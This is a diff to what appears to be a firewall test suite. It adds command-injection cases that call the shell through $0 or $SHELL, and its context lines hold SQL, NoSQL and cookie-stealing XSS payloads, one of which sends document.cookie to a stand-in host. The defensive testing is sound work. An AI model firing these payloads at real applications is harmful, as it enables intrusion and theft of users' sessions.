@@ -43,6 +43,11 @@ describe('attacks are blocked at paranoia 1, whatever the family and the carrier
     ],
     ['sqli: tautology split by a BOM', get(q("x'\ufeffor\ufeff'1'='1")), 'sqli'],
     ['rce: command split by a thin space', get(q(';cat\u2009/etc/passwd')), 'rce'],
+    // The shell named by a variable: `$0` (the running shell), `$SHELL`, `$BASH`, braced or not.
+    ['rce: $0 -c', get(q('x;$0 -c id')), 'rce'],
+    ['rce: braced $0 -c', get(q('x;$' + '{0} -c whoami')), 'rce'],
+    ['rce: $SHELL -c in a header', get('/', { 'x-note': 'x;$SHELL -c id' }), 'rce'],
+    ['rce: piped into $SHELL', json({ cmd: 'x|$SHELL' }), 'rce'],
     ['sqli: MySQL executable comment', get(q('1 /*!50000union*/ /*!50000select*/ 1')), 'sqli'],
     ['sqli: NoSQL operator as a JSON key', json({ user: 'admin', password: { $ne: null } }), 'sqli'],
     ['xss: script tag', get(q('<script>fetch("//x.example/"+document.cookie)</script>')), 'xss'],
